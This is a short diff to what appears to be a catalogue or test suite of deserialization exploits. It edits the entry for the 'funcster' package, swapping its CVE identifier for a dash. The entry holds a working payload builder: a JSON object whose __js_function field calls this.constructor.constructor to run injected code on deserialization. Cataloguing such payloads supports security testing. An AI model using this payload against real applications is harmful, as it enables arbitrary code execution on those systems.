@@ -52,7 +52,7 @@ export default [
   }),
   reader({
     package: 'funcster',
-    id: 'CVE-2017-16121',
+    id: '–',
     title: 'a function in the text is called at once',
     exploit: (code) =>
       JSON.stringify({ x: { __js_function: `function () { this.constructor.constructor("${code}")() }()` } }),
